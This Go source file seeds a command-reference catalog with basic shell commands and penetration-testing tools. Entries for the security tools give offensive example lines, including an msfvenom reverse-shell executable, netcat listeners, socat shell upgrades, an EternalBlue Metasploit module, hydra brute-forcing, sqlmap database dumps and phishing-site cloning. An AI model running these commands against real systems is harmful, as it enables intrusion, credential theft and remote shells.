// Copyright Mesh Intelligence Inc., 2026. All rights reserved.

// Package seed holds the built-in catalog: core shell commands and the
// common security tools, plus the slang-tag enrichment mappings.
package seed

import "github.com/meshintel/commandbrain/pkg/types"

// Entries returns the built-in catalog rows loaded by "cb setup".
func Entries() []types.Entry {
	return append(basicCommands(), securityTools()...)
}

func basicCommands() []types.Entry {
	return []types.Entry{
		{
			Name: "ls", Category: "Basic",
			Description:     "Lists files and directories in the current directory",
			Usage:           "ls [options] [path]",
			Examples:        "ls -la /home",
			RelatedCommands: "dir, tree, find",
			Notes:           "Use -l for detailed view, -a to show hidden files",
			Tags:            "file-listing,directory,navigation",
		},
		{
			Name: "cd", Category: "Basic",
			Description:     "Changes the current directory",
			Usage:           "cd [path]",
			Examples:        "cd /home/user\ncd ..\ncd ~",
			RelatedCommands: "pwd, pushd, popd",
			Notes:           "cd ~ goes to home directory, cd - goes to previous directory",
			Tags:            "navigation,directory",
		},
		{
			Name: "pwd", Category: "Basic",
			Description:     "Prints the current working directory",
			Usage:           "pwd",
			Examples:        "pwd",
			RelatedCommands: "cd, ls",
			Notes:           "Shows full path from root (/)",
			Tags:            "navigation,directory,path",
		},
		{
			Name: "mkdir", Category: "Basic",
			Description:     "Creates a new directory",
			Usage:           "mkdir [options] directory",
			Examples:        "mkdir newfolder\nmkdir -p path/to/nested/dir",
			RelatedCommands: "rmdir, rm",
			Notes:           "Use -p to create parent directories if they don't exist",
			Tags:            "directory,file-management,creation",
		},
		{
			Name: "rm", Category: "Basic",
			Description:     "Removes files or directories",
			Usage:           "rm [options] file/directory",
			Examples:        "rm file.txt\nrm -r folder\nrm -rf folder",
			RelatedCommands: "rmdir, unlink, shred",
			Notes:           "DANGEROUS! -r for directories, -f to force. No recycle bin!",
			Tags:            "file-management,deletion,dangerous",
		},
		{
			Name: "cp", Category: "Basic",
			Description:     "Copies files or directories",
			Usage:           "cp [options] source destination",
			Examples:        "cp file.txt backup.txt\ncp -r folder newfolder",
			RelatedCommands: "mv, rsync, scp",
			Notes:           "Use -r for directories, -p to preserve permissions",
			Tags:            "file-management,copy",
		},
		{
			Name: "mv", Category: "Basic",
			Description:     "Moves or renames files or directories",
			Usage:           "mv source destination",
			Examples:        "mv old.txt new.txt\nmv file.txt /home/user/",
			RelatedCommands: "cp, rename",
			Notes:           "Same command for both moving and renaming",
			Tags:            "file-management,move,rename",
		},
		{
			Name: "cat", Category: "Basic",
			Description:     "Concatenates and displays file content",
			Usage:           "cat [files]",
			Examples:        "cat file.txt\ncat file1.txt file2.txt > combined.txt",
			RelatedCommands: "more, less, head, tail, tac",
			Notes:           "tac displays file in reverse. Use for small files only",
			Tags:            "file-viewing,text",
		},
		{
			Name: "grep", Category: "Searching",
			Description:     "Searches for patterns in files",
			Usage:           "grep [options] pattern [files]",
			Examples:        "grep 'error' log.txt\ngrep -r 'password' /etc/",
			RelatedCommands: "egrep, fgrep, ack, ag, ripgrep",
			Notes:           "Use -i for case-insensitive, -r for recursive, -n for line numbers",
			Tags:            "search,text-processing,pattern-matching",
		},
		{
			Name: "find", Category: "Searching",
			Description:     "Searches for files and directories",
			Usage:           "find [path] [options]",
			Examples:        "find /home -name '*.txt'\nfind . -type f -mtime -7",
			RelatedCommands: "locate, which, whereis",
			Notes:           "Very powerful but slow on large directories. locate is faster but less current",
			Tags:            "search,file-finding",
		},
		{
			Name: "chmod", Category: "Permissions",
			Description:     "Changes file/directory permissions",
			Usage:           "chmod [options] mode file",
			Examples:        "chmod 755 script.sh\nchmod u+x file.sh\nchmod -R 644 folder/",
			RelatedCommands: "chown, chgrp",
			Notes:           "755 = rwxr-xr-x (owner full, others read+execute). 644 = rw-r--r--",
			Tags:            "permissions,security,file-management",
		},
		{
			Name: "chown", Category: "Permissions",
			Description:     "Changes file/directory owner",
			Usage:           "chown [options] user[:group] file",
			Examples:        "chown user file.txt\nchown user:group file.txt",
			RelatedCommands: "chmod, chgrp",
			Notes:           "Need sudo for files you don't own",
			Tags:            "permissions,security,ownership",
		},
		{
			Name: "top", Category: "System-Info",
			Description:     "Displays real-time system processes and resource usage",
			Usage:           "top",
			Examples:        "top\ntop -u username",
			RelatedCommands: "htop, ps, atop",
			Notes:           "Press 'q' to quit, 'k' to kill process. htop is more user-friendly",
			Tags:            "monitoring,processes,performance",
		},
		{
			Name: "ps", Category: "System-Info",
			Description:     "Shows current processes",
			Usage:           "ps [options]",
			Examples:        "ps aux\nps -ef\nps -u username",
			RelatedCommands: "top, htop, pgrep, pidof",
			Notes:           "ps aux shows all processes. Common for finding PIDs",
			Tags:            "processes,monitoring",
		},
		{
			Name: "df", Category: "System-Info",
			Description:     "Displays disk space usage",
			Usage:           "df [options]",
			Examples:        "df -h\ndf -h /home",
			RelatedCommands: "du, lsblk, fdisk",
			Notes:           "-h flag makes output human-readable (GB instead of blocks)",
			Tags:            "disk,storage,monitoring",
		},
		{
			Name: "ping", Category: "Networking",
			Description:     "Tests connectivity to a host",
			Usage:           "ping [options] host",
			Examples:        "ping google.com\nping -c 4 192.168.1.1",
			RelatedCommands: "traceroute, mtr, nmap",
			Notes:           "Use -c to limit count, otherwise it runs forever. CTRL+C to stop",
			Tags:            "network,troubleshooting,connectivity",
		},
		{
			Name: "ifconfig", Category: "Networking",
			Description:     "Displays network interface configuration (deprecated)",
			Usage:           "ifconfig [interface]",
			Examples:        "ifconfig\nifconfig eth0",
			RelatedCommands: "ip, nmcli",
			Notes:           "DEPRECATED - use 'ip a' instead on modern systems",
			Tags:            "network,configuration,deprecated",
		},
		{
			Name: "ip", Category: "Networking",
			Description:     "Shows/manipulates routing, devices, policy routing and tunnels",
			Usage:           "ip [options] object command",
			Examples:        "ip a\nip link show\nip route",
			RelatedCommands: "ifconfig, route",
			Notes:           "Modern replacement for ifconfig. 'ip a' = show all addresses",
			Tags:            "network,configuration,routing",
		},
		{
			Name: "netstat", Category: "Networking",
			Description:     "Displays network connections, routing tables, interface stats",
			Usage:           "netstat [options]",
			Examples:        "netstat -tuln\nnetstat -antp",
			RelatedCommands: "ss, lsof, nmap",
			Notes:           "-tuln shows TCP/UDP listening ports. ss is the modern replacement",
			Tags:            "network,monitoring,connections",
		},
		{
			Name: "ss", Category: "Networking",
			Description:     "Socket statistics - modern netstat replacement",
			Usage:           "ss [options]",
			Examples:        "ss -tuln\nss -tanp",
			RelatedCommands: "netstat, lsof",
			Notes:           "Faster than netstat. -t=TCP, -u=UDP, -l=listening, -n=numeric",
			Tags:            "network,monitoring,sockets",
		},
		{
			Name: "sudo", Category: "User-Management",
			Description:     "Executes command with superuser privileges",
			Usage:           "sudo command",
			Examples:        "sudo apt update\nsudo -i",
			RelatedCommands: "su, pkexec",
			Notes:           "Logs all commands. sudo -i gives root shell. Use carefully!",
			Tags:            "permissions,security,admin",
		},
		{
			Name: "passwd", Category: "User-Management",
			Description:     "Changes user password",
			Usage:           "passwd [username]",
			Examples:        "passwd\nsudo passwd username",
			RelatedCommands: "chpasswd",
			Notes:           "Without username changes your own password",
			Tags:            "security,user-management,authentication",
		},
		{
			Name: "apt", Category: "Package-Management",
			Description:     "Debian/Ubuntu package manager",
			Usage:           "apt [command] [options]",
			Examples:        "apt update\napt install package\napt search keyword",
			RelatedCommands: "dpkg, apt-get, aptitude",
			Notes:           "update refreshes package list, upgrade installs updates, install adds new packages",
			Tags:            "packages,software,installation",
		},
		{
			Name: "systemctl", Category: "System-Control",
			Description:     "Controls systemd services and system",
			Usage:           "systemctl [command] [service]",
			Examples:        "systemctl status ssh\nsystemctl restart nginx\nsystemctl enable apache2",
			RelatedCommands: "service, chkconfig",
			Notes:           "enable = start on boot, disable = don't start on boot, status shows if running",
			Tags:            "services,system,management",
		},
		{
			Name: "shutdown", Category: "System-Control",
			Description:     "Shuts down or reboots the system",
			Usage:           "shutdown [options] [time]",
			Examples:        "shutdown -h now\nshutdown -r +5\nshutdown -c",
			RelatedCommands: "reboot, halt, poweroff",
			Notes:           "-h = halt, -r = reboot, -c = cancel scheduled shutdown, 'now' or +minutes",
			Tags:            "system,power,shutdown",
		},
		{
			Name: "awk", Category: "Text-Processing",
			Description:     "Pattern scanning and text processing language",
			Usage:           "awk 'pattern {action}' file",
			Examples:        "awk '{print $1}' file.txt\nawk -F: '{print $1}' /etc/passwd",
			RelatedCommands: "sed, cut, grep",
			Notes:           "Powerful for column-based data. $1 = first column, $2 = second, etc.",
			Tags:            "text,processing,scripting",
		},
		{
			Name: "sed", Category: "Text-Processing",
			Description:     "Stream editor for filtering and transforming text",
			Usage:           "sed 's/pattern/replacement/' file",
			Examples:        "sed 's/old/new/g' file.txt\nsed -i 's/foo/bar/' file.txt",
			RelatedCommands: "awk, tr, grep",
			Notes:           "-i edits file in-place. s = substitute, g = global (all occurrences)",
			Tags:            "text,processing,editing",
		},
		{
			Name: "tar", Category: "Archiving",
			Description:     "Creates and extracts archive files",
			Usage:           "tar [options] archive files",
			Examples:        "tar -czf archive.tar.gz folder/\ntar -xzf archive.tar.gz",
			RelatedCommands: "gzip, zip, 7z",
			Notes:           "-c=create, -x=extract, -z=gzip, -f=file, -v=verbose. Remember: 'eXtract Ze Files'",
			Tags:            "compression,archiving,backup",
		},
		{
			Name: "ssh", Category: "Security",
			Description:     "Secure Shell - remote login protocol",
			Usage:           "ssh [user@]host [command]",
			Examples:        "ssh user@192.168.1.10\nssh -p 2222 user@host",
			RelatedCommands: "scp, sftp, telnet",
			Notes:           "Use -p for custom port. Keys are more secure than passwords. Telnet is UNENCRYPTED (bad!)",
			Tags:            "network,remote-access,security",
		},
		{
			Name: "scp", Category: "Security",
			Description:     "Secure copy - transfers files over SSH",
			Usage:           "scp source destination",
			Examples:        "scp file.txt user@host:/path/\nscp -r folder user@host:/path/",
			RelatedCommands: "rsync, sftp, ftp",
			Notes:           "Use -r for directories. rsync is better for large/frequent transfers",
			Tags:            "network,file-transfer,security",
		},
	}
}

func securityTools() []types.Entry {
	return []types.Entry{
		{
			Name: "nmap", Category: "Network-Scanning",
			Description:     "Network exploration and port scanning tool",
			Usage:           "nmap [options] target",
			Examples:        "nmap -sV 192.168.1.0/24\nnmap -p- -T4 10.0.0.5\nnmap -sC -sV -oA scan target.com",
			RelatedCommands: "masscan, netcat, ping",
			Notes:           "-sV detects service versions, -sC runs default scripts, -p- scans all 65535 ports",
			Tags:            "network,scanning,port scan,network scan,recon,enumeration,discovery",
		},
		{
			Name: "masscan", Category: "Network-Scanning",
			Description:     "Very fast Internet-scale port scanner",
			Usage:           "masscan [options] target",
			Examples:        "masscan -p80,443 10.0.0.0/8 --rate 10000\nmasscan -p0-65535 192.168.1.0/24",
			RelatedCommands: "nmap, zmap",
			Notes:           "Asynchronous transmission makes it much faster than nmap but less accurate",
			Tags:            "network,scanning,fast,internet-scale",
		},
		{
			Name: "burpsuite", Category: "Web-Testing",
			Description:     "Web application security testing proxy",
			Usage:           "burpsuite",
			Examples:        "burpsuite\njava -jar burpsuite.jar",
			RelatedCommands: "zaproxy, sqlmap, nikto",
			Notes:           "Set browser proxy to 127.0.0.1:8080. Community edition lacks the scanner",
			Tags:            "web,proxy,interception,testing",
		},
		{
			Name: "sqlmap", Category: "Web-Testing",
			Description:     "Automatic SQL injection and database takeover tool",
			Usage:           "sqlmap [options] -u URL",
			Examples:        "sqlmap -u 'http://site/page?id=1'\nsqlmap -u URL --dbs\nsqlmap -u URL -D db -T users --dump",
			RelatedCommands: "burpsuite, nikto",
			Notes:           "--batch accepts defaults for unattended runs. Only test systems you are authorized to test",
			Tags:            "web,sql injection,database,automation",
		},
		{
			Name: "nikto", Category: "Web-Testing",
			Description:     "Web server vulnerability scanner",
			Usage:           "nikto -h target",
			Examples:        "nikto -h http://192.168.1.10\nnikto -h target.com -p 8080",
			RelatedCommands: "dirb, gobuster, wpscan",
			Notes:           "Noisy by design; not stealthy. Good first pass over a web server",
			Tags:            "web,vulnerability,scanner",
		},
		{
			Name: "dirb", Category: "Web-Testing",
			Description:     "Web content scanner using wordlist-based brute forcing",
			Usage:           "dirb url [wordlist]",
			Examples:        "dirb http://192.168.1.10\ndirb http://target.com /usr/share/wordlists/dirb/big.txt",
			RelatedCommands: "gobuster, wfuzz, ffuf",
			Notes:           "gobuster is faster; dirb has recursive scanning by default",
			Tags:            "web,directories,brute force,discovery",
		},
		{
			Name: "gobuster", Category: "Web-Testing",
			Description:     "Fast directory, DNS, and vhost brute forcing tool",
			Usage:           "gobuster mode [options]",
			Examples:        "gobuster dir -u http://target -w wordlist.txt\ngobuster dns -d target.com -w subdomains.txt",
			RelatedCommands: "dirb, ffuf, dnsenum",
			Notes:           "dir mode for directories, dns for subdomains, vhost for virtual hosts",
			Tags:            "web,directories,dns,brute force",
		},
		{
			Name: "metasploit", Category: "Exploitation",
			Description:     "Penetration testing and exploitation framework",
			Usage:           "msfconsole",
			Examples:        "msfconsole\nsearch type:exploit platform:windows smb\nuse exploit/windows/smb/ms17_010_eternalblue",
			RelatedCommands: "msfvenom, searchsploit",
			Notes:           "search, use, set RHOSTS, exploit is the basic loop. db_nmap imports scans",
			Tags:            "exploitation,framework,payloads,post-exploitation",
		},
		{
			Name: "searchsploit", Category: "Exploitation",
			Description:     "Offline search of the Exploit-DB archive",
			Usage:           "searchsploit term",
			Examples:        "searchsploit apache 2.4\nsearchsploit -m 12345\nsearchsploit --cve 2021-44228",
			RelatedCommands: "metasploit, msfvenom",
			Notes:           "-m mirrors the exploit to the current directory. Update with searchsploit -u",
			Tags:            "exploits,cve,database,search",
		},
		{
			Name: "hydra", Category: "Password-Attacks",
			Description:     "Fast network login brute forcing tool",
			Usage:           "hydra [options] target service",
			Examples:        "hydra -l admin -P rockyou.txt ssh://192.168.1.10\nhydra -L users.txt -P pass.txt ftp://target",
			RelatedCommands: "john, hashcat, medusa",
			Notes:           "-l single user, -L user list, -P password list. -t controls parallelism",
			Tags:            "passwords,brute force,login,network",
		},
		{
			Name: "john", Category: "Password-Attacks",
			Description:     "John the Ripper password hash cracker",
			Usage:           "john [options] hashfile",
			Examples:        "john --wordlist=rockyou.txt hashes.txt\njohn --show hashes.txt\nunshadow passwd shadow > hashes.txt",
			RelatedCommands: "hashcat, hydra",
			Notes:           "--format selects the hash type. --show prints cracked passwords",
			Tags:            "passwords,hashes,cracking,offline",
		},
		{
			Name: "hashcat", Category: "Password-Attacks",
			Description:     "GPU-accelerated password hash cracker",
			Usage:           "hashcat [options] hashfile [wordlist]",
			Examples:        "hashcat -m 0 -a 0 hashes.txt rockyou.txt\nhashcat -m 1000 ntlm.txt rockyou.txt -r rules/best64.rule",
			RelatedCommands: "john, hydra",
			Notes:           "-m selects hash mode (0=MD5, 1000=NTLM), -a attack mode. Needs GPU drivers for speed",
			Tags:            "passwords,hashes,gpu,cracking",
		},
		{
			Name: "aircrack-ng", Category: "Wireless",
			Description:     "WiFi security auditing suite for WEP/WPA cracking",
			Usage:           "aircrack-ng [options] capturefile",
			Examples:        "airmon-ng start wlan0\nairodump-ng wlan0mon\naircrack-ng -w rockyou.txt capture.cap",
			RelatedCommands: "airodump-ng, aireplay-ng, wifite",
			Notes:           "Needs monitor-mode capable adapter. Capture the WPA handshake first",
			Tags:            "wifi,wireless,wpa,cracking",
		},
		{
			Name: "wireshark", Category: "Sniffing",
			Description:     "Graphical network protocol analyzer",
			Usage:           "wireshark [options]",
			Examples:        "wireshark\nwireshark -r capture.pcap\ntshark -i eth0 -w out.pcap",
			RelatedCommands: "tcpdump, tshark",
			Notes:           "Display filters like http, tcp.port==443, ip.addr==10.0.0.5. tshark is the CLI version",
			Tags:            "packets,capture,analysis,protocols",
		},
		{
			Name: "tcpdump", Category: "Sniffing",
			Description:     "Command-line packet capture and analysis",
			Usage:           "tcpdump [options] [filter]",
			Examples:        "tcpdump -i eth0\ntcpdump -i eth0 port 80 -w capture.pcap\ntcpdump -r capture.pcap",
			RelatedCommands: "wireshark, tshark",
			Notes:           "-w writes pcap for later analysis in wireshark. Needs root",
			Tags:            "packets,capture,cli,network",
		},
		{
			Name: "enum4linux", Category: "Enumeration",
			Description:     "Enumerates information from Windows and Samba systems",
			Usage:           "enum4linux [options] target",
			Examples:        "enum4linux -a 192.168.1.10\nenum4linux -U -S target",
			RelatedCommands: "smbclient, nmap, rpcclient",
			Notes:           "-a runs all checks: users, shares, OS info, password policy",
			Tags:            "smb,windows,samba,enumeration",
		},
		{
			Name: "dnsenum", Category: "Enumeration",
			Description:     "DNS enumeration and subdomain discovery tool",
			Usage:           "dnsenum [options] domain",
			Examples:        "dnsenum target.com\ndnsenum --enum -f subdomains.txt target.com",
			RelatedCommands: "dig, dnsrecon, gobuster",
			Notes:           "Attempts zone transfers and brute forces subdomains from a wordlist",
			Tags:            "dns,subdomains,enumeration,recon",
		},
		{
			Name: "netcat", Category: "Networking",
			Description:     "Reads and writes data across network connections",
			Usage:           "nc [options] host port",
			Examples:        "nc -lvnp 4444\nnc 192.168.1.10 4444\nnc -zv target 1-1000",
			RelatedCommands: "socat, ncat, ssh",
			Notes:           "The TCP/IP swiss army knife. -l listen, -z port scan, -e execute (if compiled in)",
			Tags:            "network,listener,shells,transfer",
		},
		{
			Name: "openvas", Category: "Vulnerability-Scanning",
			Description:     "Full-featured vulnerability scanner",
			Usage:           "gvm-start",
			Examples:        "gvm-setup\ngvm-start",
			RelatedCommands: "nessus, nikto, nmap",
			Notes:           "Heavy setup; web UI on port 9392. Feed sync takes a while on first run",
			Tags:            "vulnerabilities,scanner,assessment",
		},
		{
			Name: "gdb", Category: "Reverse-Engineering",
			Description:     "GNU debugger for binary analysis",
			Usage:           "gdb [options] program",
			Examples:        "gdb ./binary\nbreak main\nrun\ninfo registers",
			RelatedCommands: "objdump, radare2, strace",
			Notes:           "Install pwndbg or gef for exploitation work",
			Tags:            "debugging,binaries,reversing",
		},
		{
			Name: "autopsy", Category: "Forensics",
			Description:     "Digital forensics platform for disk image analysis",
			Usage:           "autopsy",
			Examples:        "autopsy",
			RelatedCommands: "sleuthkit, volatility, foremost",
			Notes:           "GUI over The Sleuth Kit. Handles timelines, carving, and keyword search",
			Tags:            "forensics,disk,investigation,recovery",
		},
		{
			Name: "volatility", Category: "Forensics",
			Description:     "Memory forensics framework for RAM dump analysis",
			Usage:           "vol.py -f dump [plugin]",
			Examples:        "vol.py -f mem.raw windows.pslist\nvol.py -f mem.raw windows.netscan",
			RelatedCommands: "autopsy, rekall",
			Notes:           "Version 3 auto-detects profiles; version 2 needs --profile",
			Tags:            "forensics,memory,ram,analysis",
		},
		{
			Name: "wpscan", Category: "Web-Testing",
			Description:     "WordPress vulnerability scanner",
			Usage:           "wpscan --url target",
			Examples:        "wpscan --url http://blog.target.com\nwpscan --url target --enumerate u,p",
			RelatedCommands: "nikto, whatweb",
			Notes:           "--enumerate u lists users, p plugins. API token unlocks vulnerability data",
			Tags:            "wordpress,web,cms,scanner",
		},
		{
			Name: "whatweb", Category: "Web-Testing",
			Description:     "Identifies web technologies and CMS fingerprints",
			Usage:           "whatweb [options] target",
			Examples:        "whatweb target.com\nwhatweb -a 3 192.168.1.0/24",
			RelatedCommands: "wpscan, nikto, wappalyzer",
			Notes:           "-a sets aggression level; 3 sends more requests but finds more",
			Tags:            "fingerprinting,web,identification",
		},
		{
			Name: "whois", Category: "Information-Gathering",
			Description:     "Queries domain registration information",
			Usage:           "whois domain",
			Examples:        "whois target.com\nwhois 8.8.8.8",
			RelatedCommands: "dig, nslookup, host",
			Notes:           "Registrant details are often privacy-protected these days",
			Tags:            "domains,registration,osint,recon",
		},
		{
			Name: "nslookup", Category: "Information-Gathering",
			Description:     "Queries DNS name servers interactively",
			Usage:           "nslookup [host] [server]",
			Examples:        "nslookup target.com\nnslookup -type=mx target.com",
			RelatedCommands: "dig, host, dnsenum",
			Notes:           "dig gives more detail; nslookup is available nearly everywhere",
			Tags:            "dns,lookup,resolution",
		},
		{
			Name: "dig", Category: "Information-Gathering",
			Description:     "Flexible DNS lookup utility",
			Usage:           "dig [options] name [type]",
			Examples:        "dig target.com\ndig target.com MX\ndig axfr @ns1.target.com target.com",
			RelatedCommands: "nslookup, host, dnsenum",
			Notes:           "axfr attempts a zone transfer. +short trims the output",
			Tags:            "dns,lookup,zone transfer,records",
		},
		{
			Name: "traceroute", Category: "Information-Gathering",
			Description:     "Shows the network path packets take to a host",
			Usage:           "traceroute [options] host",
			Examples:        "traceroute target.com\ntraceroute -I 8.8.8.8",
			RelatedCommands: "ping, mtr, tracepath",
			Notes:           "mtr combines ping and traceroute in a live view",
			Tags:            "network,routing,path,hops",
		},
		{
			Name: "msfvenom", Category: "Exploitation",
			Description:     "Payload generator for the Metasploit framework",
			Usage:           "msfvenom [options]",
			Examples:        "msfvenom -p windows/meterpreter/reverse_tcp LHOST=10.0.0.5 LPORT=4444 -f exe -o shell.exe\nmsfvenom -l payloads",
			RelatedCommands: "metasploit, searchsploit",
			Notes:           "-p payload, -f format, -e encoder. Pair with a matching multi/handler",
			Tags:            "payloads,shellcode,generation,metasploit",
		},
		{
			Name: "setoolkit", Category: "Social-Engineering",
			Description:     "Social-Engineer Toolkit for phishing and credential harvesting",
			Usage:           "setoolkit",
			Examples:        "setoolkit",
			RelatedCommands: "gophish, beef",
			Notes:           "Site cloner under Social-Engineering Attacks > Website Attack Vectors",
			Tags:            "phishing,social engineering,harvesting",
		},
		{
			Name: "crunch", Category: "Password-Attacks",
			Description:     "Generates custom wordlists from character sets and patterns",
			Usage:           "crunch min max [charset] [options]",
			Examples:        "crunch 8 8 0123456789 -o pins.txt\ncrunch 6 8 -t pass%% -o list.txt",
			RelatedCommands: "cewl, john, hashcat",
			Notes:           "Output grows fast; estimate size before writing to disk",
			Tags:            "wordlists,generation,passwords",
		},
		{
			Name: "cewl", Category: "Password-Attacks",
			Description:     "Builds wordlists by spidering a target website",
			Usage:           "cewl [options] url",
			Examples:        "cewl -d 2 -m 5 http://target.com -w words.txt",
			RelatedCommands: "crunch, john",
			Notes:           "-d spider depth, -m minimum word length. Good for organization-specific passwords",
			Tags:            "wordlists,spidering,web,passwords",
		},
		{
			Name: "socat", Category: "Networking",
			Description:     "Multipurpose bidirectional data relay",
			Usage:           "socat [options] address address",
			Examples:        "socat TCP-LISTEN:8080,fork TCP:target:80\nsocat file:`tty`,raw,echo=0 tcp-listen:4444",
			RelatedCommands: "netcat, ssh",
			Notes:           "Upgrade netcat shells to full TTYs with the file:`tty` trick",
			Tags:            "relay,forwarding,tunnels,shells",
		},
		{
			Name: "proxychains", Category: "Networking",
			Description:     "Routes any command's traffic through proxy servers",
			Usage:           "proxychains command",
			Examples:        "proxychains nmap -sT target\nproxychains firefox",
			RelatedCommands: "socat, tor",
			Notes:           "Configure proxies in /etc/proxychains.conf. Only TCP is proxied",
			Tags:            "proxy,tunneling,anonymity,pivoting",
		},
	}
}
